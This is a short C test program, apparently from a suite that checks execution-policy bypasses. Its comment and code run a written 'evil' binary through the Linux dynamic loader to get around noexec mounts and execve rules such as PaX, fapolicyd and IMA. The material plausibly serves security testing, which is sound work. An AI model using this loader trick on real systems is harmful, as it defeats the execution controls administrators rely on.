// The dynamic loader is called with a written program as its argument: around noexec and around rules for execve (PaX, fapolicyd, IMA).
#include "escape.h"
int main(void)
{
	payload("evil");
	EXEC42("/lib64/ld-linux-x86-64.so.2", "./evil");
}
